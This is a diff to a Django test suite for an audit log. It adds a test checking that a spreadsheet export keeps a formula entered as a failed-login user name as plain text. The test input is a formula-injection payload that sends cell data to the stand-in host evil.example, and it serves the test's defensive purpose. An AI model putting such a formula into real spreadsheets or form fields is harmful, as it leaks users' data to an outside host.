@@ -180,3 +180,14 @@ def test_there_is_no_route_to_change_or_delete_events(client, world, events):
     assert client.post(LIST, {"id": pk}).status_code == 405
     assert client.delete(LIST).status_code == 405
     assert AuditEvent.objects.filter(pk=pk).exists()
+
+
+def test_export_keeps_a_formula_typed_as_a_user_name_as_text(client, world):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    client.post(reverse("accounts:login"), {"username": formula, "password": "whatever-123"})
+    client.force_login(world.users.audit_admin)
+    response = client.get(reverse("audit:event_export"))
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
+    assert cells, "the failed sign-in is exported"
+    assert all(cell.data_type == "s" for cell in cells)
